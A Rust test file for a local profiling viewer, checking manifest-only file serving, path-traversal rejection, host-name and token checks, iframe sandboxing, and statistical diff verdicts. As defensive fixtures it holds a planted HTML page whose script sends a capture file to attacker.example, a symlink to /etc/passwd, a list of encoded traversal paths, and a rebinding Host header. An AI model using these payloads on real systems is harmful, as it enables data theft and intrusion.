//! The viewer's rules, on a store made of real capture files: only files a manifest lists
//! are served, nothing in a URL walks out of the store, other host names are refused, and
//! the pages show what the catalog and `devprof diff`'s code compute. Nothing is served
//! without the token, and a capture's files are served sandboxed.

use super::library::Library;
use super::routes::{percent_decode, respond, Policy, Request, Response, Route, Token, Viewer};
use crate::profile::diff::{compare, Measure};
use crate::profile::folded::Folded;
use crate::profile::stat_diff::functions::{compare_sets, Direction, WindowCounts};
use crate::store::{ContainerRecord, FileRecord, Manifest, PartRecord};
use std::fs;
use std::path::{Path, PathBuf};

const PORT: u16 = 4242;
const OLDER: &str = "perf-20261122-101500";
const NEWER: &str = "perf-20261122-101600";
const SESSION: &str = "session-20261122-101700";
/// An async-profiler page as a target's JVM could write it: its script reaches for the
/// page around it and the viewer's other files.
const ASPROF_HTML: &str = "<!DOCTYPE html><html><body><script>\
    fetch('/file/demo-seq/perf-20261122-101600/perf-20261122-101600.folded')\
    .then(r => r.text()).then(t => parent.location = 'http://attacker.example/?' + t);\
    </script></body></html>";

fn token() -> Token {
    Token::from_bytes(&[0x5a; 32])
}

fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name)
}

/// A capture `name` of demo-seq from a real folded file, with its flamegraph; `extra`
/// names more listed files.
fn capture(dir: &Path, name: &str, created: &str, folded: &str, extra: &[&str]) {
    fs::copy(data(folded), dir.join(format!("{name}.folded"))).unwrap();
    let stacks = crate::store::loader::read(&dir.join(format!("{name}.folded"))).unwrap();
    crate::render::write_svg_file(
        &stacks,
        &crate::render::SvgSpec::cpu(name.into(), None),
        &dir.join(format!("{name}.svg")),
    )
    .unwrap();
    let mut files: Vec<String> = vec![format!("{name}.folded"), format!("{name}.svg")];
    files.extend(extra.iter().map(|e| e.to_string()));
    write_manifest(
        dir,
        name,
        &cpu_manifest(name, created, stacks.total(), files),
    );
}

/// The manifest of demo-seq's cpu capture `name`, listing `files` and itself.
fn cpu_manifest(name: &str, created: &str, samples: u64, mut files: Vec<String>) -> Manifest {
    files.push(format!("{name}.json"));
    Manifest {
        kind: "cpu".into(),
        created: created.into(),
        target: "demo-seq".into(),
        container: ContainerRecord {
            name: "demo-seq".into(),
            ..Default::default()
        },
        sample_count: samples,
        files: files
            .into_iter()
            .map(|name| FileRecord { name, bytes: 0 })
            .collect(),
        ..Default::default()
    }
}

fn write_manifest(dir: &Path, name: &str, manifest: &Manifest) {
    fs::write(
        dir.join(format!("{name}.json")),
        serde_json::to_string_pretty(manifest).unwrap(),
    )
    .unwrap();
}

/// Two captures, one with markers, a link and names that walk listed in its manifest, a
/// file nobody listed, a file outside the store, and a session.
fn store() -> (tempfile::TempDir, Viewer) {
    let root = tempfile::tempdir().unwrap();
    let out = root.path().join("profiling");
    let dir = out.join("demo-seq");
    fs::create_dir_all(&dir).unwrap();
    fs::write(root.path().join("outside.txt"), "outside the store").unwrap();
    fs::write(dir.join("unlisted.txt"), "not devprof's").unwrap();
    fs::write(
        dir.join(format!("{OLDER}.markers")),
        "12.5 block=<b>17</b>\n",
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/passwd", dir.join("passwd.svg")).unwrap();
    fs::write(dir.join(format!("{OLDER}.asprof.html")), ASPROF_HTML).unwrap();
    capture(
        &dir,
        OLDER,
        "2026-11-22T10:15:00.000+00:00",
        "cpu-demo-seq.folded",
        &[
            &format!("{OLDER}.markers"),
            &format!("{OLDER}.asprof.html"),
            "passwd.svg",
            "../outside.txt",
            "/etc/passwd",
        ],
    );
    capture(
        &dir,
        NEWER,
        "2026-11-22T10:16:00.000+00:00",
        "cpu-demo-shifted.folded",
        &[],
    );
    let sessions = out.join("sessions");
    fs::create_dir_all(&sessions).unwrap();
    fs::write(
        sessions.join(format!("{SESSION}.json")),
        serde_json::json!({
            "devprof_version": "0", "kind": "session", "created": "2026-11-22T10:17:00.000+00:00",
            "targets": "named", "kinds": ["cpu"], "duration_requested_s": 5.0,
            "started_at": "2026-11-22T10:17:01.000+00:00", "interrupted": false,
            "rows": [{"container": "demo-seq", "cpu_cores": 0.8, "pid": 7, "samples": 4000,
                      "heap_growth_bytes": null, "offcpu_s": null, "verdict": null, "errors": []}],
            "captures": [{"container": "demo-seq", "kind": "cpu",
                          "manifest": format!("demo-seq/{NEWER}.json"),
                          "window_started_at": null, "window_stopped_at": null, "error": null}],
            "thresholds": "CPU is high from 50%"
        })
        .to_string(),
    )
    .unwrap();
    let viewer = Viewer {
        library: Library::new(out),
        port: PORT,
        token: token(),
    };
    (root, viewer)
}

/// A request with the given Host and Cookie headers.
fn request(
    viewer: &Viewer,
    method: &str,
    target: &str,
    host: Option<&str>,
    cookie: Option<&str>,
) -> Response {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    respond(
        viewer,
        &Request {
            method,
            path,
            query,
            host,
            cookie,
        },
    )
}

/// The viewer's cookie, as a browser sends it back (beside a cookie of another site's).
fn cookie() -> String {
    format!(
        "theme=dark; {}={}",
        Token::cookie_name(PORT),
        token().as_str()
    )
}

/// A request from a browser that has the token's cookie.
fn get_as(viewer: &Viewer, method: &str, target: &str, host: Option<&str>) -> Response {
    request(viewer, method, target, host, Some(&cookie()))
}

fn get(viewer: &Viewer, target: &str) -> Response {
    get_as(viewer, "GET", target, Some(&format!("127.0.0.1:{PORT}")))
}

fn text(response: &Response) -> String {
    String::from_utf8_lossy(&response.body).into_owned()
}

#[test]
fn only_files_a_manifest_lists_are_served() {
    let (_root, viewer) = store();
    let svg = get(&viewer, &format!("/file/demo-seq/{OLDER}/{OLDER}.svg"));
    assert_eq!((svg.status, svg.content_type), (200, "image/svg+xml"));
    assert_eq!(svg.policy, Policy::Artifact);
    assert!(text(&svg).contains("<svg"));
    let manifest = get(&viewer, &format!("/file/demo-seq/{OLDER}/{OLDER}.json"));
    assert_eq!(
        (manifest.status, manifest.content_type),
        (200, "application/json")
    );
    // In the capture's directory, but no manifest lists it.
    let unlisted = get(&viewer, &format!("/file/demo-seq/{OLDER}/unlisted.txt"));
    assert_eq!(unlisted.status, 404);
    assert!(!text(&unlisted).contains("not devprof's"));
    // Listed by the other capture only.
    let other = get(&viewer, &format!("/file/demo-seq/{NEWER}/{OLDER}.markers"));
    assert_eq!(other.status, 404);
}

#[test]
fn a_listed_link_or_a_listed_path_that_walks_is_not_served() {
    let (_root, viewer) = store();
    for name in ["passwd.svg", "..%2Foutside.txt", "%2Fetc%2Fpasswd"] {
        let response = get(&viewer, &format!("/file/demo-seq/{OLDER}/{name}"));
        assert_eq!(response.status, 404, "{name}");
        let body = text(&response);
        assert!(!body.contains("root:") && !body.contains("outside the store"));
    }
}

#[test]
fn traversal_in_the_url_is_no_route() {
    let (_root, viewer) = store();
    for path in [
        "/file/demo-seq/../../etc/passwd",
        "/file/demo-seq/perf-20261122-101500/..",
        "/file/demo-seq/perf-20261122-101500/%2e%2e",
        "/file/demo-seq/perf-20261122-101500/%2e%2e%2f%2e%2e%2foutside.txt",
        "/file/demo-seq/perf-20261122-101500/a%00b",
        "/file/demo-seq/perf-20261122-101500/%zz",
        "/file/..%2F..%2Fetc/x/passwd",
        "/file/.hidden/x/y",
        "/capture/demo-seq/..",
        "/capture/%2e%2e/x",
        "//etc/passwd",
        "/static/../Cargo.toml",
        "/session/..%2Fdemo-seq%2Fperf-20261122-101500",
    ] {
        assert_eq!(Route::parse(path), None, "{path}");
        let response = get(&viewer, path);
        assert_eq!(response.status, 404, "{path}");
        let body = text(&response);
        assert!(
            !body.contains("root:") && !body.contains("outside the store"),
            "{path}"
        );
    }
    assert_eq!(percent_decode("a%2Fb"), Some("a/b".into()));
    assert_eq!(percent_decode("%zz"), None);
    assert_eq!(percent_decode("%ff"), None);
}

#[test]
fn other_host_names_are_refused() {
    let (_root, viewer) = store();
    let store = viewer.library.output_dir().display().to_string();
    for host in [
        Some("attacker.example:4242"),
        Some("127.0.0.1:4243"),
        Some("127.0.0.1"),
        None,
    ] {
        let refused = get_as(&viewer, "GET", "/", host);
        assert_eq!(refused.status, 403, "{host:?}");
        // Not even the store's path.
        assert!(!text(&refused).contains(&store) && !text(&refused).contains(OLDER));
    }
    assert_eq!(
        get_as(&viewer, "GET", "/", Some("localhost:4242")).status,
        200
    );
    assert_eq!(
        get_as(&viewer, "HEAD", "/", Some("LOCALHOST:4242")).status,
        200
    );
    assert_eq!(
        get_as(&viewer, "POST", "/", Some("127.0.0.1:4242")).status,
        405
    );
}

#[test]
fn the_list_shows_every_capture_the_catalog_lists_and_filters_by_kind() {
    let (_root, viewer) = store();
    let page = text(&get(&viewer, "/"));
    let listed = viewer.library.captures().unwrap();
    assert_eq!(listed.len(), 2);
    for capture in &listed {
        assert!(page.contains(&format!(r#"data-id="demo-seq/{}""#, capture.name())));
    }
    assert!(page.contains(r#"<span id="shown-count">2</span> of 2"#));
    let filtered = text(&get(&viewer, "/?kind=heap"));
    assert_eq!(filtered.matches(" hidden>").count(), 2);
    assert!(filtered.contains(r#"<span id="shown-count">0</span> of 2"#));
    let since = text(&get(&viewer, "/?since=2030-01-01T00%3A00"));
    assert!(since.contains(r#"<span id="shown-count">0</span>"#));
    assert_eq!(get(&viewer, "/?since=tomorrow").status, 400);
}

#[test]
fn a_diff_shows_the_totals_and_rows_of_devprof_diffs_comparison() {
    let (_root, viewer) = store();
    // Ticked in either order, the older capture is before.
    let page = text(&get(
        &viewer,
        &format!("/diff?capture=demo-seq%2F{NEWER}&capture=demo-seq%2F{OLDER}"),
    ));
    let read = |name: &str| crate::store::loader::read(&data(name)).unwrap();
    let diff = compare(
        &read("cpu-demo-seq.folded"),
        &read("cpu-demo-shifted.folded"),
        Measure::SelfTime,
    );
    let total = |n: u64| crate::units::thousands(n);
    assert!(page.contains(&format!(
        r#"<span id="before-total">{}</span>"#,
        total(diff.before_total)
    )));
    assert!(page.contains(&format!(
        r#"<span id="after-total">{}</span>"#,
        total(diff.after_total)
    )));
    let first_gain = diff.gains(1)[0];
    assert!(page.contains(&format!("{:+.2}", first_gain.delta_points)));
    assert!(page.contains(&super::pages::escape(&first_gain.name)));
    let svg = get(
        &viewer,
        &format!("/diff.svg?before=demo-seq%2F{OLDER}&after=demo-seq%2F{NEWER}"),
    );
    assert_eq!(svg.status, 200);
    // inferno escapes the subtitle's apostrophe: compare past it.
    let subtitle = crate::render::differential_subtitle(diff.after_total, "samples");
    assert!(text(&svg).contains(subtitle.split_once('\'').unwrap().1));
    assert_eq!(get(&viewer, "/diff?capture=demo-seq%2Fx").status, 400);
    assert_eq!(
        get(&viewer, "/diff?before=demo-seq%2Fnone&after=demo-seq%2Fx").status,
        404
    );
}

#[test]
fn markers_show_only_when_the_manifest_lists_them() {
    let (_root, viewer) = store();
    let with = text(&get(&viewer, &format!("/capture/demo-seq/{OLDER}/markers")));
    assert!(with.contains("block=&lt;b&gt;17&lt;/b&gt;") && !with.contains("<b>17"));
    let overview = text(&get(&viewer, &format!("/capture/demo-seq/{NEWER}")));
    assert!(!overview.contains("tab-markers") && overview.contains("tab-flamegraph"));
    assert_eq!(
        get(&viewer, &format!("/capture/demo-seq/{NEWER}/markers")).status,
        404
    );
}

#[test]
fn sessions_are_listed_drawn_and_link_their_captures() {
    let (_root, viewer) = store();
    let list = text(&get(&viewer, "/sessions"));
    assert!(list.contains(&format!("/session/{SESSION}")));
    let page = text(&get(&viewer, &format!("/session/{SESSION}")));
    assert!(page.contains(&format!(r#"href="/capture/demo-seq/{NEWER}""#)));
    let picture = get(&viewer, &format!("/session/{SESSION}/table.svg"));
    assert_eq!(picture.content_type, "image/svg+xml");
    assert!(text(&picture).contains(">demo-seq</text>"));
}

#[test]
fn the_start_page_is_a_session_a_capture_or_a_container() {
    let (_root, viewer) = store();
    let library = &viewer.library;
    assert_eq!(
        library.start_page(SESSION).unwrap(),
        format!("/session/{SESSION}")
    );
    assert_eq!(
        library.start_page(OLDER).unwrap(),
        format!("/capture/demo-seq/{OLDER}")
    );
    let file = library
        .output_dir()
        .join(format!("demo-seq/{NEWER}.folded"));
    assert_eq!(
        library.start_page(&file.display().to_string()).unwrap(),
        format!("/capture/demo-seq/{NEWER}")
    );
    assert_eq!(
        library.start_page("demo-seq").unwrap(),
        "/?container=demo-seq"
    );
    assert!(library.start_page("op-reth").is_err());
}

/// The response's headers as the server sends them.
fn headers(response: Response) -> hyper::HeaderMap {
    super::http_response(response, false).headers().clone()
}

fn header(headers: &hyper::HeaderMap, name: &str) -> String {
    headers
        .get(name)
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default()
}

#[test]
fn a_planted_html_artifact_is_served_sandboxed_and_framed_sandboxed() {
    let (_root, viewer) = store();
    let planted = get(
        &viewer,
        &format!("/file/demo-seq/{OLDER}/{OLDER}.asprof.html"),
    );
    assert_eq!(
        (planted.status, planted.content_type),
        (200, "text/html; charset=utf-8")
    );
    assert_eq!(text(&planted), ASPROF_HTML);
    let sent = headers(planted);
    let policy = header(&sent, "content-security-policy");
    // An opaque origin: its script runs (flamegraphs zoom and search) but reads nothing of
    // the viewer's, and may load nothing.
    assert!(policy.starts_with("sandbox allow-scripts;"), "{policy}");
    assert!(!policy.contains("allow-same-origin"), "{policy}");
    assert!(policy.contains("default-src 'none'"), "{policy}");
    assert_eq!(header(&sent, "x-content-type-options"), "nosniff");
    // Every file of a capture, whatever its kind, and the drawings made from the store.
    for target in [
        format!("/file/demo-seq/{OLDER}/{OLDER}.svg"),
        format!("/file/demo-seq/{OLDER}/{OLDER}.json"),
        format!("/file/demo-seq/{OLDER}/{OLDER}.folded"),
        format!("/file/demo-seq/{OLDER}/{OLDER}.markers"),
        format!("/diff.svg?before=demo-seq%2F{OLDER}&after=demo-seq%2F{NEWER}"),
        format!("/session/{SESSION}/table.svg"),
    ] {
        let response = get(&viewer, &target);
        assert_eq!(response.status, 200, "{target}");
        assert_eq!(response.policy, Policy::Artifact, "{target}");
        let sent = headers(response);
        assert!(
            header(&sent, "content-security-policy").starts_with("sandbox allow-scripts;"),
            "{target}"
        );
        assert_eq!(header(&sent, "x-content-type-options"), "nosniff");
    }
    // The viewer's own pages are not sandboxed (their script runs as the viewer's), and
    // the frames they put the files in are.
    let page = get(&viewer, &format!("/capture/demo-seq/{OLDER}/flamegraph"));
    assert_eq!(page.policy, Policy::Viewer);
    let body = text(&page);
    let frames: Vec<&str> = body.split("<iframe").skip(1).collect();
    assert!(!frames.is_empty());
    for frame in frames {
        let tag = &frame[..frame.find('>').unwrap()];
        assert!(tag.contains(r#"sandbox="allow-scripts""#), "{tag}");
        // Sized from the SVG's own height, as the page cannot read a sandboxed frame (a
        // listed link is not read, so it has none).
        assert_eq!(
            tag.contains("data-height=\""),
            tag.contains(&format!("/{OLDER}.svg\"")),
            "{tag}"
        );
    }
    let policy = header(&headers(page), "content-security-policy");
    assert!(
        !policy.contains("sandbox") && policy.contains("script-src 'self'"),
        "{policy}"
    );
    let diff = text(&get(
        &viewer,
        &format!("/diff?before=demo-seq%2F{OLDER}&after=demo-seq%2F{NEWER}"),
    ));
    assert!(diff.contains(r#"id="diff-graph" sandbox="allow-scripts""#));
}

#[test]
fn nothing_is_served_without_the_token() {
    let (_root, viewer) = store();
    let host = format!("127.0.0.1:{PORT}");
    let store = viewer.library.output_dir().display().to_string();
    let wrong = Token::from_bytes(&[0x5b; 32]);
    let short = token().as_str()[..10].to_string();
    for (target, cookie) in [
        ("/".to_string(), None),
        (format!("/file/demo-seq/{OLDER}/{OLDER}.folded"), None),
        ("/static/app.js".to_string(), None),
        (format!("/?token={}", wrong.as_str()), None),
        (format!("/?token={short}"), None),
        ("/?token=".to_string(), None),
        (
            "/".to_string(),
            Some(format!("{}={}", Token::cookie_name(PORT), wrong.as_str())),
        ),
        // The cookie of a viewer on another port.
        (
            "/".to_string(),
            Some(format!(
                "{}={}",
                Token::cookie_name(PORT + 1),
                token().as_str()
            )),
        ),
        // The token under another cookie's name.
        ("/".to_string(), Some(format!("token={}", token().as_str()))),
    ] {
        let refused = request(&viewer, "GET", &target, Some(&host), cookie.as_deref());
        assert_eq!(refused.status, 403, "{target} {cookie:?}");
        let body = text(&refused);
        assert!(
            body.contains("open the URL `devprof view` printed"),
            "{body}"
        );
        assert!(!body.contains(&store) && !body.contains(OLDER));
        assert_eq!(refused.set_cookie, None);
    }
    // The URL devprof printed: served, and the cookie set for the pages it leads to.
    let first = request(
        &viewer,
        "GET",
        &format!("/?container=demo-seq&token={}", token().as_str()),
        Some(&host),
        None,
    );
    assert_eq!(first.status, 200);
    assert!(text(&first).contains(&format!(r#"data-id="demo-seq/{OLDER}""#)));
    let set = header(&headers(first), "set-cookie");
    assert_eq!(
        set,
        format!(
            "{}={}; HttpOnly; SameSite=Strict; Path=/",
            Token::cookie_name(PORT),
            token().as_str()
        )
    );
    // Then the cookie alone, as the browser sends it back with the pages' links.
    let cookie = set.split(';').next().unwrap().to_string();
    for target in [
        format!("/capture/demo-seq/{OLDER}"),
        format!("/file/demo-seq/{OLDER}/{OLDER}.folded"),
        "/static/app.js".to_string(),
    ] {
        let served = request(&viewer, "GET", &target, Some(&host), Some(&cookie));
        assert_eq!(served.status, 200, "{target}");
        assert_eq!(served.set_cookie, None);
    }
    // The host check comes first: the right token from another name is still refused.
    let rebound = request(
        &viewer,
        "GET",
        &format!("/?token={}", token().as_str()),
        Some(&format!("attacker.example:{PORT}")),
        None,
    );
    assert_eq!(rebound.status, 403);
    assert_eq!(rebound.set_cookie, None);
}

#[test]
fn a_token_matches_only_itself_and_each_run_draws_a_new_one() {
    let token = token();
    assert!(token.matches(&"5a".repeat(32)));
    assert!(!token.matches(&"5a".repeat(31)));
    assert!(!token.matches(&format!("{}5b", "5a".repeat(31))));
    assert!(!token.matches(&"5A".repeat(32)));
    assert!(!token.matches(""));
    assert_eq!(format!("{token:?}"), "Token(..)");
    let (a, b) = (super::fresh_token().unwrap(), super::fresh_token().unwrap());
    assert_eq!(a.as_str().len(), 2 * super::TOKEN_BYTES);
    assert!(a.as_str().bytes().all(|c| c.is_ascii_hexdigit()));
    assert_ne!(a.as_str(), b.as_str());
    assert_eq!(
        super::url_with_token(4242, "/", &token),
        format!("http://127.0.0.1:4242/?token={}", token.as_str())
    );
    assert_eq!(
        super::url_with_token(4242, "/?container=demo-seq", &token),
        format!(
            "http://127.0.0.1:4242/?container=demo-seq&token={}",
            token.as_str()
        )
    );
}

/// A window of 1 s: `hot` self samples in hot_fn, `rest` in other, 50 in third.
fn window_text(hot: u64, rest: u64) -> String {
    format!("t;main;hot_fn {hot}\nt;main;other {rest}\nt;main;third 50\n")
}

/// A capture set (`cpu --repeat K`) named `name`: one part per window, each 1 s, and the
/// whole capture their sum, listed in its manifest as `devprof cpu --repeat` lists them.
fn set_capture(dir: &Path, name: &str, created: &str, windows: &[String]) {
    let mut files = vec![format!("{name}.folded")];
    let mut parts = Vec::new();
    let mut whole = String::new();
    for (i, text) in windows.iter().enumerate() {
        let folded = format!("{name}.part{}.folded", i + 1);
        fs::write(dir.join(&folded), text).unwrap();
        whole.push_str(text);
        parts.push(PartRecord {
            index: i as u32 + 1,
            start_s: i as f64,
            duration_s: 1.0,
            samples: Folded::from_folded_text(text).total(),
            cpu_cores: 0.1,
            folded: folded.clone(),
            timeline: String::new(),
        });
        files.push(folded);
    }
    let whole = Folded::from_folded_text(&whole);
    whole
        .write_to(fs::File::create(dir.join(format!("{name}.folded"))).unwrap())
        .unwrap();
    let manifest = Manifest {
        duration_recorded_s: windows.len() as f64,
        parts,
        ..cpu_manifest(name, created, whole.total(), files)
    };
    write_manifest(dir, name, &manifest);
}

const BASE_SET: &str = "perf-20261126-150000";
const HEAD_SET: &str = "perf-20261126-151000";
const AGAIN_SET: &str = "perf-20261126-152000";

/// The windows of three sets: a base, a head whose hot_fn does ~100 more samples a second
/// in every window, and the base again with other noise.
fn set_windows() -> [Vec<String>; 3] {
    let noise: [i64; 5] = [0, 7, -5, 2, -4];
    let w = |hot: i64, rest: i64| window_text(hot as u64, rest as u64);
    [
        noise.iter().map(|n| w(300 + n, 600 - n)).collect(),
        noise.iter().map(|n| w(400 - n, 500 + n)).collect(),
        [3, -6, 1, 5, -2]
            .iter()
            .map(|n| w(301 + n, 599 - n))
            .collect(),
    ]
}

fn store_with_sets() -> (tempfile::TempDir, Viewer) {
    let root = tempfile::tempdir().unwrap();
    let out = root.path().join("profiling");
    let dir = out.join("demo-seq");
    fs::create_dir_all(&dir).unwrap();
    let [base, head, again] = set_windows();
    set_capture(&dir, BASE_SET, "2026-11-26T15:00:00.000+00:00", &base);
    set_capture(&dir, HEAD_SET, "2026-11-26T15:10:00.000+00:00", &head);
    set_capture(&dir, AGAIN_SET, "2026-11-26T15:20:00.000+00:00", &again);
    let viewer = Viewer {
        library: Library::new(out),
        port: PORT,
        token: token(),
    };
    (root, viewer)
}

/// The rows of the page's set table: (class, verdict, function, change text).
fn set_rows(page: &str) -> Vec<(String, String, String, String)> {
    let table = &page[page.find(r#"id="set-functions""#).expect("a set table")..];
    let body = &table[table.find("<tbody>").unwrap()..table.find("</tbody>").unwrap()];
    let attr = |row: &str, name: &str| {
        let at = row.find(&format!("{name}=\"")).unwrap() + name.len() + 2;
        row[at..at + row[at..].find('"').unwrap()].to_string()
    };
    let inner = |row: &str, class: &str| {
        let at = row.find(&format!("class=\"{class}\">")).unwrap() + class.len() + 9;
        row[at..at + row[at..].find('<').unwrap()].to_string()
    };
    body.split("<tr ")
        .skip(1)
        .map(|row| {
            (
                attr(row, "class"),
                attr(row, "data-verdict"),
                inner(row, "fn"),
                inner(row, "delta"),
            )
        })
        .collect()
}

/// How many of a flamegraph's frames are filled with a colour other than the neutral grey
/// inferno gives a differential frame that did not change.
fn coloured_frames(svg: &str) -> usize {
    let fills: Vec<&str> = svg
        .split("<rect ")
        .skip(1)
        .filter_map(|r| r.split("fill=\"").nth(1)?.split('"').next())
        .collect();
    fills
        .iter()
        .filter(|f| f.starts_with("rgb(") && **f != "rgb(250,250,250)")
        .count()
}

/// The viewer's diff of two capture sets once showed plain share deltas (`24.56 -> 18.62
/// -5.93 state_lookup`) coloured by their sign, where `devprof diff` of the same sets said
/// every function was within noise (Holm-corrected). It now shows the verdicts and
/// intervals of `compare_sets`, the function `devprof diff` calls, and colours only the
/// functions whose verdict stands out of the noise, in the table and in the flamegraph.
#[test]
fn a_diff_of_capture_sets_shows_the_clis_verdicts_not_share_deltas() {
    let (_root, viewer) = store_with_sets();
    let [base, head, again] = set_windows();
    let counts = |texts: &[String]| -> Vec<WindowCounts> {
        texts
            .iter()
            .map(|t| WindowCounts::of(&Folded::from_folded_text(t), Some(1.0)))
            .collect()
    };
    let query = |after: &str| format!("before=demo-seq%2F{BASE_SET}&after=demo-seq%2F{after}");

    // A real change: hot_fn regressed, other improved, third within noise.
    let expected = compare_sets(&counts(&base), &counts(&head), 0.95);
    let page = text(&get(&viewer, &format!("/diff?{}", query(HEAD_SET))));
    assert!(!page.contains(r#"id="gains""#), "no plain share deltas");
    assert!(page.contains("Holm-corrected over"), "{page}");
    assert!(page.contains(r#"id="before-windows" data-windows="5""#));
    let rows = set_rows(&page);
    assert_eq!(rows.len(), expected.functions.len());
    for (class, verdict, name, change) in &rows {
        let f = expected.function(name).unwrap();
        let json = serde_json::to_value(f.verdict).unwrap();
        assert_eq!(verdict, json.as_str().unwrap(), "{name}");
        let coloured = matches!(f.verdict, Direction::Regressed | Direction::Improved);
        assert_eq!(class.is_empty(), !coloured, "{name}: {class}");
        let ci = f.self_share.ci.unwrap();
        assert_eq!(change, &format!("{:+.2} ±{ci:.2}", f.self_share.change));
    }
    let verdict_of = |name: &str| {
        rows.iter()
            .find(|r| r.2 == name)
            .map(|r| (r.0.as_str(), r.1.as_str()))
    };
    assert_eq!(verdict_of("hot_fn"), Some(("regressed", "regressed")));
    assert_eq!(verdict_of("other"), Some(("improved", "improved")));
    assert_eq!(verdict_of("third"), Some(("", "within_noise")));
    let svg = text(&get(&viewer, &format!("/diff.svg?{}", query(HEAD_SET))));
    assert!(
        svg.contains("coloured only where the change is significant at 95%"),
        "{svg}"
    );
    assert!(coloured_frames(&svg) > 0);

    // The same process measured again: shares move a little, the verdicts say noise, and
    // nothing is coloured.
    let expected = compare_sets(&counts(&base), &counts(&again), 0.95);
    assert!(expected
        .functions
        .iter()
        .all(|f| f.verdict == Direction::WithinNoise));
    assert!(expected
        .functions
        .iter()
        .any(|f| f.self_share.change != 0.0));
    let page = text(&get(&viewer, &format!("/diff?{}", query(AGAIN_SET))));
    let rows = set_rows(&page);
    assert_eq!(rows.len(), expected.functions.len());
    assert!(rows
        .iter()
        .all(|(class, verdict, _, _)| class.is_empty() && verdict == "within_noise"));
    assert!(page.contains(r#"data-verdict="within_noise">samples per second:"#));
    let svg = text(&get(&viewer, &format!("/diff.svg?{}", query(AGAIN_SET))));
    assert_eq!(coloured_frames(&svg), 0, "within noise is drawn neutral");
}
